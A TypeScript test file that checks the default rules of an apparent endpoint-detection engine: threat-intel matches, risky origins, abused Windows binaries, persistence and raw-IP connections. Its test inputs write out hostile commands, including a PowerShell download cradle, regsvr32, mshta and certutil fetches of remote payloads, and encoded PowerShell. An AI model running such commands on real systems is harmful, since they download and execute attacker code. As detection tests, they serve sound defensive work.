import { describe, expect, it } from 'vitest';
import type { EvidenceItem, ReportSection, ReportSectionId } from '../../core/contracts.js';
import { createIntelIndex, createThreatIntel, type ThreatIntel } from '../intel/index.js';
import { DEFAULT_RULES } from './default-rules.js';
import { compileRules, judge, type RuleInput } from './evaluate.js';

const rules = compileRules(DEFAULT_RULES);
const noIntel = createThreatIntel(undefined);
const intel: ThreatIntel = {
  has: (kind, v) => (kind === 'sha256' && v === 'bad') || (kind === 'domain' && /evil\.example/.test(v)) || (kind === 'ip' && v === '203.0.113.66'),
  reloadIfChanged: () => false,
  counts: () => ({ sha256: 1, domain: 1, ip: 1, url: 0 }),
  index: () => createIntelIndex([]),
};

let seq = 0;
function input(items: Partial<Record<ReportSectionId, Record<string, unknown>[]>>, facts: Partial<RuleInput['facts']> = {}, ti: ThreatIntel = noIntel): RuleInput {
  const sections: ReportSection[] = (Object.entries(items) as [ReportSectionId, Record<string, unknown>[]][]).map(([id, events]) => ({
    id,
    title: id,
    summary: '',
    items: events.map((event): EvidenceItem => ({ ref: { tmid: 'D', seq: ++seq, ts: 0, k: String(event.k ?? 'x') }, event })),
  }));
  return { sections, facts: { originKind: 'unknown', executed: true, action: 'allowed', ...facts }, intel: ti, dnsNames: new Map([['93.184.216.34', 'example.com']]) };
}

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

type Case = [rule: string, input: RuleInput, fires: boolean];
const cases: Case[] = [
  ['intel.sha256', input({ attributes: [{ sha256: 'bad' }] }, {}, intel), true],
  ['intel.sha256', input({ chain: [{ sha256: 'bad' }] }, {}, intel), true],
  ['intel.sha256', input({ attributes: [{ sha256: 'good' }] }, {}, intel), false],
  ['intel.domain', input({ network: [{ k: 'net.dns', qname: 'c2.evil.example' }] }, {}, intel), true],
  ['intel.ip', input({ network: [{ k: 'net.conn', rip: '203.0.113.66' }] }, {}, intel), true],
  ['intel.origin-domain', input({ origin: [{ originUrl: 'https://dl.evil.example/a.exe' }] }, {}, intel), true],
  ['origin.internet', input({}, { originKind: 'internet' }), true],
  ['origin.mail', input({}, { originKind: 'mail' }), true],
  ['origin.removable', input({}, { originKind: 'removable' }), true],
  ['origin.script-download', input({}, { originKind: 'script' }), true],
  ['chain.document-spawns-script', input({ chain: [{ pimage: 'C:\\Office\\EXCEL.EXE', image: 'C:\\Windows\\System32\\mshta.exe' }] }), true],
  ['chain.document-spawns-script', input({ descendants: [{ pimage: 'C:\\Acrobat\\AcroRd32.exe', image: 'C:\\Windows\\System32\\cmd.exe' }] }), true],
  ['chain.document-spawns-script', input({ chain: [{ pimage: 'C:\\Windows\\explorer.exe', image: PS }] }), false],
  ['lolbin.powershell-encoded', input({ chain: [{ image: PS, cmd: 'powershell -NoP -EncodedCommand SQBFAFgA' }] }), true],
  ['lolbin.powershell-encoded', input({ chain: [{ image: PS, cmd: 'powershell -e SQBFAFgA' }] }), true],
  ['lolbin.powershell-encoded', input({ chain: [{ image: PS, cmd: 'powershell -ExecutionPolicy Bypass -File x.ps1' }] }), false],
  ['lolbin.powershell-download', input({ descendants: [{ image: PS, cmd: "IEX (New-Object Net.WebClient).DownloadString('http://x')" }] }), true],
  ['lolbin.mshta', input({ chain: [{ image: 'C:\\Windows\\System32\\mshta.exe', cmd: 'mshta http://x/a.hta' }] }), true],
  ['lolbin.rundll32-regsvr32', input({ chain: [{ image: 'C:\\Windows\\System32\\regsvr32.exe', cmd: 'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll' }] }), true],
  ['lolbin.rundll32-regsvr32', input({ chain: [{ image: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe shell32.dll,Control_RunDLL' }] }), false],
  ['lolbin.certutil-download', input({ descendants: [{ image: 'C:\\Windows\\System32\\certutil.exe', cmd: 'certutil -urlcache -split -f http://x/a.exe a.exe' }] }), true],
  ['persistence.run-key', input({ registry: [{ key: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce' }] }), true],
  ['persistence.run-key', input({ registry: [{ key: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunTime' }] }), false],
  ['persistence.service', input({ registry: [{ key: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\evilsvc\\ImagePath' }] }), true],
  ['persistence.service', input({ registry: [{ k: 'reg.set', key: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\evilsvc', value: 'ImagePath' }] }), true],
  ['persistence.service', input({ registry: [{ k: 'reg.create', key: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\evilsvc' }] }), true],
  // Every system process opens these with create rights (Sysmon CreateKey): no service is registered.
  ['persistence.service', input({ registry: [{ k: 'reg.create', key: 'HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters' }] }), false],
  ['persistence.service', input({ registry: [{ k: 'reg.set', key: 'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1', value: 'rundll32.exe' }] }), false],
  ['persistence.scheduled-task', input({ descendants: [{ image: 'C:\\Windows\\System32\\schtasks.exe', cmd: 'schtasks /Create /TN x /TR y' }] }), true],
  ['persistence.scheduled-task', input({ filesWritten: [{ path: 'C:\\Windows\\System32\\Tasks\\Updater' }] }), true],
  ['persistence.startup-folder', input({ filesWritten: [{ path: 'C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk' }] }), true],
  ['network.raw-ip', input({ network: [{ k: 'net.conn', dir: 'out', rip: '198.51.100.7' }] }), true],
  ['network.raw-ip', input({ network: [{ k: 'net.conn', dir: 'out', rip: '93.184.216.34' }] }), false],
  ['network.raw-ip', input({ network: [{ k: 'net.conn', dir: 'out', rip: '10.1.2.3' }] }), false],
  ['network.raw-ip', input({ network: [{ k: 'net.conn', dir: 'out', rip: '198.51.100.7', rhost: 'cdn.example' }] }), false],
  ['execution.executed', input({}, { executed: true }), true],
  ['execution.blocked', input({}, { executed: false, action: 'blocked' }), true],
  ['execution.blocked', input({}, { executed: false, action: 'allowed' }), false],
  ['signer.trusted', input({ attributes: [{ sig: 'trusted' }] }), true],
  ['signer.trusted', input({ attributes: [{ sig: 'untrusted' }] }), false],
];

describe('default rules', () => {
  it.each(cases)('%s fires: %#', (rule, given, fires) => {
    const hit = judge(rules, given).hits.find((h) => h.ruleId === rule);
    expect(hit !== undefined).toBe(fires);
    if (hit !== undefined && given.sections.length > 0) expect(hit.evidence.length).toBeGreaterThan(0);
  });

  it('has a test case for every rule', () => {
    expect(new Set(cases.map((c) => c[0]))).toEqual(new Set(DEFAULT_RULES.rules.map((r) => r.id)));
  });

  it('lets a decisive black win over any score, and thresholds decide otherwise', () => {
    const both = judge(rules, input({ attributes: [{ sha256: 'bad', sig: 'trusted' }] }, { executed: false, action: 'blocked' }, intel));
    expect(both.verdict).toBe('black');
    expect(judge(rules, input({}, { executed: true })).verdict).toBe('gray');
    expect(judge(rules, input({ attributes: [{ sig: 'trusted' }] }, { executed: false, action: 'blocked' })).verdict).toBe('white');
  });

  it('refuses a rule set with a duplicate id or a rule without weight or outcome', () => {
    expect(() => compileRules({ ...DEFAULT_RULES, rules: [...DEFAULT_RULES.rules, DEFAULT_RULES.rules[0]!] })).toThrow(/duplicate/);
    expect(() => compileRules({ ...DEFAULT_RULES, rules: [{ id: 'x', description: 'x', when: { fact: 'executed', in: [true] } }] })).toThrow(/neither/);
  });
});
